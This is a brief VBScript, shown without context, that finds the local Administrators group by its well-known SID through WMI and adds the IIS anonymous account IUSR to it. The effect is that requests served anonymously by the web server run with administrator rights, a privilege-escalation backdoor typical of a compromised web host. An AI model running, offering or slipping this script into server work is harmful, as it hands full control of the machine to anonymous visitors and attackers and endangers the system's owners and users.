Set wmi = GetObject("winmgmts:\\.\root\cimv2")
For Each group In wmi.ExecQuery("Select * from Win32_Group Where LocalAccount = True And SID = 'S-1-5-32-544'")
  Set target = GetObject("WinNT://./" & group.Name & ",group")
  target.Add "WinNT://NT AUTHORITY/IUSR"
Next
